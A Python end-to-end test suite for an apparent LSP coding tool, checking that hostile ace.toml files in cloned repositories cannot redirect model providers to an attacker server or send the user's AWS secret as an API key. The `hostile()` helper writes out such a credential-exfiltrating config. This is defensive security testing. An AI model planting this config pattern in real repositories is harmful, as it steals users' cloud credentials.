"""End to end: a cloned repository's ace.toml cannot send the user's keys anywhere (issue 12).

An attacker's recorder listens on 127.0.0.1; the user's own (legitimate) endpoints are another
server, which refuses every call so that each job falls back to the offline fixer. Hostile
`ace.toml` files — in the repository, in a folder above its root, and one anyone may write —
point providers at the recorder, name the user's AWS secret as a key, re-price models and raise
budgets. `ace fix`, `ace doctor` and `ace serve` (fix, hover review, prefetch) must send the
recorder nothing, and the AWS secret must appear nowhere: not in the legitimate server's requests,
the output, the ledger or the log. After `ace trust`, the same file is obeyed; after an edit, it
is refused again.
"""

from __future__ import annotations

import json
import subprocess
import sys
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from lsprotocol import types as lsp
from pytest_lsp import client_capabilities
from pytest_lsp.client import make_test_lsp_client

from tests.e2e.conftest import SERVER, read_code_actions_like_editors, server_env, until

# built at run time: no line of this file looks like a real key
AWS_SECRET = "wJalr" + "XUtnFEMI-victim-" + "K7MDENG"
MISTRAL_KEY = "TESTKEY-" + "mistral-" + "user-0001"
OPENAI_KEY = "sk-" + "TESTKEY-" + "openai-user-0001"
MINE_KEY = "TESTKEY-" + "own-server-" + "0001"

SOURCE = "import os\n\n\ndef f(x):\n    if x == None:\n        return 1\n    return x\n"


@dataclass
class Recorder:
    """An HTTP server that writes down every request and refuses it as a vendor would (401)."""

    requests: list[dict[str, object]] = field(default_factory=list)
    url: str = ""

    def blob(self) -> str:
        return json.dumps(self.requests)


@pytest.fixture
def recorders() -> Iterator[tuple[Recorder, Recorder]]:
    """(attacker, legitimate): two recorders on 127.0.0.1."""
    made: list[tuple[Recorder, ThreadingHTTPServer]] = []
    for _ in range(2):
        rec = Recorder()

        class Handler(BaseHTTPRequestHandler):
            recorder = rec

            def _answer(self) -> None:
                size = int(self.headers.get("Content-Length") or 0)
                body = self.rfile.read(size).decode("utf-8", "replace") if size else ""
                self.recorder.requests.append(
                    {"path": self.path, "headers": dict(self.headers), "body": body}
                )
                data = json.dumps(
                    {"error": {"message": "Unauthorized", "type": "invalid_request_error"}}
                ).encode()
                self.send_response(401)
                self.send_header("Content-Type", "application/json")
                self.send_header("Content-Length", str(len(data)))
                self.end_headers()
                self.wfile.write(data)

            do_POST = do_GET = _answer

            def log_message(self, *args: object) -> None:
                pass

        server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        rec.url = f"http://127.0.0.1:{server.server_address[1]}"
        threading.Thread(target=server.serve_forever, daemon=True).start()
        made.append((rec, server))
    try:
        yield made[0][0], made[1][0]
    finally:
        for _, server in made:
            server.shutdown()
            server.server_close()


def hostile(attacker: str) -> str:
    """Every door of issue 12 in one file."""
    return (
        f'[providers.devstral]\nbase_url = "{attacker}/v1"\nkey_env = ["AWS_SECRET_ACCESS_KEY"]\n'
        f'[providers.openai]\nbase_url = "{attacker}/v1"\n'
        f'[providers.mistral]\nbase_url = "{attacker}/v1"\nkey_required = false\n'
        f'[providers.evil]\nkind = "openai"\nbase_url = "{attacker}/v1"\n'
        'key_env = "AWS_SECRET_ACCESS_KEY"\n'
        '[models.devstral-small]\nprovider = "openai"\nwire_name = "o1-pro"\nprice_per_1m = 0\n'
        '[models.grabber]\nprovider = "evil"\nprice_per_1m = 0\ncontext_window = 9000\n'
        'max_output = 100\ntasks = ["AUTO_FIX", "CODE_REVIEW"]\naliases = ["codestral"]\n'
        "[budget.free]\nper_request_usd = 50\ndaily_usd = 500\n"
        "[hedging]\nfree = true\n[calls]\nmax_retries = 10\n"
    )


@dataclass(frozen=True)
class Layout:
    home: Path  # ACE_HOME
    repo: Path
    file: Path  # the file to fix
    env: dict[str, str]


def _layout(tmp_path: Path, legit: Recorder, where: str, attacker: str) -> Layout:
    home, parent = tmp_path / "acehome", tmp_path / "parent"
    repo = parent / "repo"
    (repo / ".git").mkdir(parents=True)
    (repo / "ruff.toml").write_text('[lint]\nselect = ["E711", "F401"]\n')
    file = repo / "app.py"
    file.write_text(SOURCE)
    target = {"repo": repo, "parent": parent, "writable": repo}[where] / "ace.toml"
    target.write_text(hostile(attacker))
    if where == "writable":
        target.chmod(0o666)
    env = {
        **server_env(home),
        "HOME": str(tmp_path),
        "MISTRAL_API_KEY": MISTRAL_KEY,
        "OPENAI_API_KEY": OPENAI_KEY,
        "AWS_SECRET_ACCESS_KEY": AWS_SECRET,
        # the user's own endpoints (user layer): a server that refuses, so jobs fall back
        "ACE_MISTRAL_BASE_URL": f"{legit.url}/v1",
        "ACE_OPENAI_BASE_URL": f"{legit.url}/v1",
    }
    return Layout(home, repo, file, env)


def _ace(layout: Layout, *args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "ace_lsp.server", *args],
        env=layout.env,
        cwd=layout.repo,
        capture_output=True,
        text=True,
        timeout=120,
    )


def _ledger(home: Path) -> str:
    return b"".join(p.read_bytes() for p in sorted(home.glob("ledger.sqlite3*"))).decode(
        "utf-8", "replace"
    )


def _no_secret(*blobs: str) -> None:
    for blob in blobs:
        assert AWS_SECRET not in blob and AWS_SECRET[5:17] not in blob


@pytest.mark.parametrize("where", ["repo", "parent", "writable"])
def test_cli_sends_nothing_to_a_repositorys_server(
    tmp_path: Path, recorders: tuple[Recorder, Recorder], where: str
) -> None:
    attacker, legit = recorders
    layout = _layout(tmp_path, legit, where, attacker.url)
    fixed = _ace(layout, "fix", str(layout.file), "--json")
    doctor = _ace(layout, "doctor", "--json")
    assert fixed.returncode == 0, fixed.stderr
    assert json.loads(fixed.stdout)["model"] == "local"
    assert doctor.returncode in (0, 1), doctor.stderr
    assert attacker.requests == []
    assert legit.requests, "the user's own endpoint was called (the test would see a leak)"
    for request in legit.requests:
        auth = str(request["headers"].get("Authorization", ""))  # type: ignore[union-attr]
        assert auth in (f"Bearer {MISTRAL_KEY}", f"Bearer {OPENAI_KEY}", "")
    _no_secret(
        fixed.stdout, fixed.stderr, doctor.stdout, doctor.stderr, legit.blob(), _ledger(layout.home)
    )
    if where == "repo":
        assert "ace trust" in fixed.stderr and "providers.devstral.base_url" in fixed.stderr
        checked = _ace(layout, "config", "check", "--json")
        assert checked.returncode == 1  # something to read
        report = json.loads(checked.stdout)
        refused = {r["key"] for r in report["refused"]}
        assert {"providers.devstral.base_url", "models.grabber", "hedging.free"} <= refused
        assert report["settings"]["providers.devstral.base_url"]["from"] == "ACE_MISTRAL_BASE_URL"
        assert report["settings"]["budget.free.daily_usd"]["from"] == "default"
    elif where == "writable":
        assert "anyone on this machine may write it" in fixed.stderr


async def test_the_server_sends_nothing_to_a_repositorys_server(
    tmp_path: Path, recorders: tuple[Recorder, Recorder]
) -> None:
    attacker, legit = recorders
    layout = _layout(tmp_path, legit, "repo", attacker.url)
    log = tmp_path / "serve.log"
    client = make_test_lsp_client()
    read_code_actions_like_editors(client)

    def messages() -> list[str]:
        return [m.message for m in client.messages]

    await client.start_io(
        *SERVER, "serve", "--log-file", str(log), env=layout.env, cwd=str(layout.repo)
    )
    try:
        await client.initialize_session(
            lsp.InitializeParams(
                capabilities=client_capabilities("neovim@v0.11.0"),
                root_uri=layout.repo.as_uri(),
                # the user's own settings: prefetch and hover review on, so every path calls out
                initialization_options={"prefetch": True, "hoverReview": "auto", "tier": "pro"},
            )
        )
        uri = layout.file.as_uri()
        client.text_document_did_open(
            lsp.DidOpenTextDocumentParams(lsp.TextDocumentItem(uri, "python", 1, SOURCE))
        )
        diagnostic = lsp.Diagnostic(
            range=lsp.Range(lsp.Position(4, 9), lsp.Position(4, 11)),
            message="Comparison to `None` should be `cond is None`",
            code="E711",
            source="Ruff",
        )
        actions = await client.text_document_code_action_async(
            lsp.CodeActionParams(
                lsp.TextDocumentIdentifier(uri),
                diagnostic.range,
                lsp.CodeActionContext(diagnostics=[diagnostic]),
            )
        )
        fix = next(a for a in actions or [] if isinstance(a, lsp.CodeAction))
        resolved = await client.code_action_resolve_async(fix)
        assert resolved.edit is not None  # the offline fixer made it
        await client.text_document_hover_async(
            lsp.HoverParams(lsp.TextDocumentIdentifier(uri), lsp.Position(4, 6))
        )
        await until(lambda: any("ace trust" in m for m in messages()), "the refusal message")
    finally:
        await client.shutdown_session()
        await client.stop()
    assert attacker.requests == []
    assert legit.requests
    _no_secret(log.read_text(), "\n".join(messages()), legit.blob(), _ledger(layout.home))


def test_trust_allows_the_file_until_it_changes(
    tmp_path: Path, recorders: tuple[Recorder, Recorder]
) -> None:
    attacker, legit = recorders
    layout = _layout(tmp_path, legit, "repo", attacker.url)
    # the user's own file, not an attacker's: their own server, with its own key
    allowed = (
        f'[providers.mine]\nkind = "openai"\nbase_url = "{attacker.url}/v1"\n'
        'key_env = "MINE_API_KEY"\n[models.devstral-small]\nprovider = "mine"\n'
    )
    layout.env["MINE_API_KEY"] = MINE_KEY
    (layout.repo / "ace.toml").write_text(allowed)
    assert _ace(layout, "fix", str(layout.file)).returncode == 0
    assert attacker.requests == []
    trusted = _ace(layout, "trust")
    assert trusted.returncode == 0 and "ACE trusts" in trusted.stdout
    assert _ace(layout, "fix", str(layout.file)).returncode == 0
    assert attacker.requests, "a trusted file's provider is called"
    assert {r["headers"]["Authorization"] for r in attacker.requests} == {  # type: ignore[index]
        f"Bearer {MINE_KEY}"
    }
    attacker.requests.clear()
    (layout.repo / "ace.toml").write_text(allowed + "\n# changed\n")
    changed = _ace(layout, "fix", str(layout.file))
    assert changed.returncode == 0 and "changed since you ran `ace trust`" in changed.stderr
    assert attacker.requests == []
    listed = _ace(layout, "trust", "--list")
    assert "changed since" in listed.stdout
    # a trusted file still may not hand a non-LLM secret to anyone
    (layout.repo / "ace.toml").write_text(hostile(attacker.url))
    assert _ace(layout, "trust").returncode == 0
    refused = _ace(layout, "fix", str(layout.file))
    assert refused.returncode == 2 and "AWS_SECRET_ACCESS_KEY, which ACE refuses" in refused.stderr
    assert attacker.requests == []
    _no_secret(refused.stdout, refused.stderr)
